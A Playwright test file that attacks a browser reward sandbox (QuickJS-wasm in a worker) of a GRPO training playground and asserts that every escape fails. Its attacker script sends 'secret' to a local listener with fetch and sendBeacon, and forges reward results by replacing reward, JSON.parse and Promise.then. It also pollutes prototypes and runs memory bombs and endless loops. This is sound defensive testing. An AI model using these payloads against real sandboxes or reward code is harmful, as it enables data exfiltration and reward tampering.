// Escape attempts against the browser reward sandbox (QuickJS-wasm in a reward worker) in real
// Chromium: the network to another origin (a local listener on 127.0.0.1, another port, must see
// no connection), dynamic import and importScripts, the worker's and the app's storage, result
// forging through postMessage, prototype pollution of the page, memory bombs, runaway loops and
// promises that never settle. The bundle is served WITHOUT a CSP (the app's servers all send one,
// from deploy/headers.json): containment must not depend on the CSP. Each attempt must fail with the
// error text asserted here, and the next call of the same source must still score right.
import { expect, test, type Page } from '@playwright/test';
import { createServer, type Server } from 'node:http';
import { resolve } from 'node:path';
import { build, type Rollup } from 'vite';
import type { RewardEscapeE2E } from './support/reward-escape-entry';

const RELAXED_MS = 5000;
const LIMIT_MS = 1000;
/** The watchdog's grace (WATCHDOG_GRACE_MS) plus a loaded 2-core machine's scheduling. */
const SLACK_MS = 2500;

const ROOT = resolve('.');
const BASE = '/__e2e_escape__/';

const files = new Map<string, string | Uint8Array>();
let server: Server;
let port = 0;
const seen: string[] = [];

test.beforeAll(async () => {
  server = createServer((req, res) => {
    seen.push(`${req.method} ${req.url}`);
    res.setHeader('Access-Control-Allow-Origin', '*');
    res.setHeader('Cross-Origin-Resource-Policy', 'cross-origin');
    res.end('export default 1;');
  });
  server.on('connection', () => seen.push('connection'));
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  port = (server.address() as { port: number }).port;

  const out = await build({
    configFile: false,
    root: ROOT,
    base: BASE,
    logLevel: 'warn',
    worker: { format: 'es' },
    build: {
      write: false,
      minify: false,
      target: 'es2022',
      modulePreload: false,
      rollupOptions: {
        input: resolve(ROOT, 'tests/e2e/support/reward-escape-entry.ts'),
        output: { entryFileNames: 'entry.js' },
      },
    },
  });
  const outputs = (Array.isArray(out) ? out : [out]) as Rollup.RollupOutput[];
  for (const o of outputs)
    for (const item of o.output)
      files.set(item.fileName, item.type === 'chunk' ? item.code : item.source);
  expect([...files.keys()].some((f) => f.endsWith('.wasm'))).toBe(true);
});

test.afterAll(async () => {
  await new Promise((r) => server.close(r));
});

async function openApp(page: Page): Promise<void> {
  await page.route(`**${BASE}**`, async (route) => {
    const name = new URL(route.request().url()).pathname.slice(BASE.length);
    const body = files.get(name);
    if (body === undefined) return route.fulfill({ status: 404, body: 'not found' });
    await route.fulfill({
      status: 200,
      contentType: name.endsWith('.wasm') ? 'application/wasm' : 'text/javascript',
      body: typeof body === 'string' ? body : Buffer.from(body),
      // No Content-Security-Policy: as vite preview serves worker scripts.
      headers: {
        'Cross-Origin-Embedder-Policy': 'require-corp',
        'Cross-Origin-Opener-Policy': 'same-origin',
      },
    });
  });
  await page.goto('/');
  await expect(page.getByRole('heading', { name: 'GRPO Playground' })).toBeVisible();
  await page.addScriptTag({ url: `${BASE}entry.js`, type: 'module' });
  await page.waitForFunction(() => '__rewardEscapeE2E' in globalThis);
}

/** Attacks selected by the completion, one per line (lines are asserted); 'ok' scores 2. */
function attacker(origin: string): string {
  const url = (path: string) => JSON.stringify(origin + path);
  const ws = (path: string) => JSON.stringify(origin.replace('http', 'ws') + path);
  return `const attacks = {
  fetch: () => fetch(${url('/fetch?c=secret')}),
  xhr: () => { const x = new XMLHttpRequest(); x.open('GET', ${url('/xhr')}); x.send(); },
  webSocket: () => new WebSocket(${ws('/ws')}),
  webSocketStream: () => new WebSocketStream(${ws('/wss')}),
  eventSource: () => new EventSource(${url('/sse')}),
  importUrl: async () => await import(${url('/import.js')}),
  importScripts: () => importScripts(${url('/script.js')}),
  beacon: () => navigator.sendBeacon(${url('/beacon')}, 'secret'),
  image: () => { new Image().src = ${url('/img')}; },
  postMessage: () => postMessage({ type: 'result', id: 2, outcome: { value: 100 } }),
  selfPost: () => self.postMessage({ type: 'result', id: 2, outcome: { value: 100 } }),
  indexedDB: () => indexedDB.open('grpo-playground'),
  worker: () => new Worker('data:text/javascript,1'),
  pollute: () => { Object.prototype.polluted = 'yes'; Array.prototype.push = null; return 1; },
  array: () => new Array(1e9).fill(0),
  string: () => 'x'.repeat(2 ** 28),
  buffers: () => { const keep = []; for (;;) keep.push(new Float64Array(1e6)); },
  loop: () => { for (;;) {} },
  nativeLoop: () => ('a'.repeat(3e6) + 'b').indexOf('a'.repeat(1e6) + 'b'),
  never: () => new Promise(() => {}),
  buffer: () => new ArrayBuffer(2 ** 30),
  forge: () => {
    globalThis.reward = () => 100;
    JSON.parse = () => ({ completion: 'forged input!' });
    Promise.prototype.then = function (ok) { ok(100); };
    Object.prototype.toJSON = () => 100;
    return 1;
  },
};
async function reward({ completion }) {
  const attack = attacks[completion];
  return attack ? await attack() : completion.length;
}`;
}

interface Attempt {
  attack: string;
  text: string;
  timedOut: boolean;
  ms: number;
  after: unknown;
}

/** Runs each attack then 'ok' in the same sandbox, in the page; returns texts and timings. */
async function runAttacks(
  page: Page,
  attacks: string[],
  timeoutMs: number,
  via: 'factory' | 'startRewardWorker',
): Promise<Attempt[]> {
  return page.evaluate(
    async ({ source, attacks, timeoutMs, via, RELAXED_MS }) => {
      const api = (globalThis as unknown as { __rewardEscapeE2E: RewardEscapeE2E })
        .__rewardEscapeE2E;
      const rw = via === 'startRewardWorker' ? api.startRewardWorker() : null;
      const sandbox = (rw ? rw.factory : api.browserSandboxFactory())(source);
      const input = (completion: string) => ({
        completion,
        prompt: 'p',
        problem: {
          id: 'p-1',
          task: 'arithmetic',
          question: 'q',
          reference: '5',
          verifier: { kind: 'integer' as const, answer: '5' },
        },
      });
      // Start the worker first: start-up is not counted against the per-call limit.
      await sandbox.score([input('ok')], RELAXED_MS);
      const out = [];
      for (const attack of attacks) {
        const t0 = performance.now();
        const [o] = await sandbox.score([input(attack)], timeoutMs);
        const ms = performance.now() - t0;
        const [after] = await sandbox.score([input('ok')], RELAXED_MS);
        const e = 'error' in o ? o.error : null;
        out.push({
          attack,
          text:
            'error' in o
              ? e instanceof Error
                ? `${e.name}: ${e.message}`
                : String(e)
              : `value ${JSON.stringify(o.value)}`,
          timedOut: 'timedOut' in o && o.timedOut === true,
          ms,
          after: 'value' in after ? after.value : String(after.error),
        });
      }
      sandbox.dispose();
      rw?.terminate();
      return out;
    },
    { source: attacker(`http://127.0.0.1:${port}`), attacks, timeoutMs, via, RELAXED_MS },
  );
}

const notDefined = (name: string, line: number, column: number) =>
  `ReferenceError: '${name}' is not defined (line ${line}, column ${column})`;

test('network, import, storage and result forging: nothing reaches another origin', async ({
  page,
}) => {
  await openApp(page);
  const attacks = [
    'fetch',
    'xhr',
    'webSocket',
    'webSocketStream',
    'eventSource',
    'importUrl',
    'importScripts',
    'beacon',
    'image',
    'postMessage',
    'selfPost',
    'indexedDB',
    'worker',
  ];
  for (const via of ['factory', 'startRewardWorker'] as const) {
    const results = await runAttacks(page, attacks, RELAXED_MS, via);
    expect(Object.fromEntries(results.map((r) => [r.attack, r.text]))).toEqual({
      fetch: notDefined('fetch', 2, 16),
      xhr: notDefined('XMLHttpRequest', 3, 30),
      webSocket: notDefined('WebSocket', 4, 24),
      webSocketStream: notDefined('WebSocketStream', 5, 30),
      eventSource: notDefined('EventSource', 6, 26),
      importUrl: `ReferenceError: could not load module 'http://127.0.0.1:${port}/import.js'`,
      importScripts: notDefined('importScripts', 8, 24),
      beacon: notDefined('navigator', 9, 17),
      image: notDefined('Image', 10, 22),
      postMessage: notDefined('postMessage', 11, 22),
      selfPost: notDefined('self', 12, 19),
      indexedDB: notDefined('indexedDB', 13, 20),
      worker: notDefined('Worker', 14, 21),
    });
    expect(results.map((r) => r.after)).toEqual(attacks.map(() => 2));
  }
  // Time for a stray request to land before asserting there was none.
  await page.waitForTimeout(500);
  expect(seen).toEqual([]);
  // Control: this browser does reach the listener (a navigation to it), so the empty log above
  // means the sandbox sent nothing, not that the port was unreachable.
  const other = await page.context().newPage();
  await other.goto(`http://127.0.0.1:${port}/control`);
  await other.close();
  expect(seen).toContain('GET /control');
});

test('replacing reward, JSON.parse or Promise.prototype.then does not change what the page reads', async ({
  page,
}) => {
  await openApp(page);
  // The page reads each call's result from the engine natively: the guest's replaced globals
  // neither change this call's value nor forge the next call's.
  const [r] = await runAttacks(page, ['forge'], RELAXED_MS, 'factory');
  expect([r.text, r.after]).toEqual(['value 1', 2]);
});

test("the guest's Object.prototype never reaches the page", async ({ page }) => {
  await openApp(page);
  const [r] = await runAttacks(page, ['pollute'], RELAXED_MS, 'factory');
  expect(r).toMatchObject({ text: 'value 1', after: 2 });
  expect(
    await page.evaluate(() => {
      const probe = {} as Record<string, unknown>;
      const list: number[] = [];
      list.push(1);
      return { polluted: probe.polluted ?? null, pushed: list.length };
    }),
  ).toEqual({ polluted: null, pushed: 1 });
});

test('memory bombs, runaway loops and never-settling promises fail that call only', async ({
  page,
}) => {
  await openApp(page);
  const bombs = await runAttacks(page, ['array', 'string', 'buffers'], RELAXED_MS, 'factory');
  expect(bombs.map((r) => [r.attack, r.text, r.after])).toEqual([
    ['array', 'InternalError: out of memory (line 16, column 35)', 2],
    ['string', 'InternalError: out of memory (line 17, column 27)', 2],
    ['buffers', 'InternalError: out of memory (line 18, column 72)', 2],
  ]);
  // One allocation larger than the whole sandbox memory (the wasm memory is capped, not only
  // QuickJS's own accounting).
  const [buffer] = await runAttacks(page, ['buffer'], RELAXED_MS, 'factory');
  expect([buffer.text, buffer.after]).toEqual([
    'InternalError: out of memory (line 22, column 32)',
    2,
  ]);
  const runaway = await runAttacks(page, ['loop', 'nativeLoop', 'never'], LIMIT_MS, 'factory');
  for (const r of runaway) {
    expect([r.attack, r.text, r.timedOut, r.after]).toEqual([
      r.attack,
      `TimeoutError: exceeded the ${LIMIT_MS} ms time limit`,
      true,
      2,
    ]);
    expect(r.ms).toBeGreaterThanOrEqual(LIMIT_MS - 5);
    expect(r.ms).toBeLessThan(LIMIT_MS + SLACK_MS);
  }
});
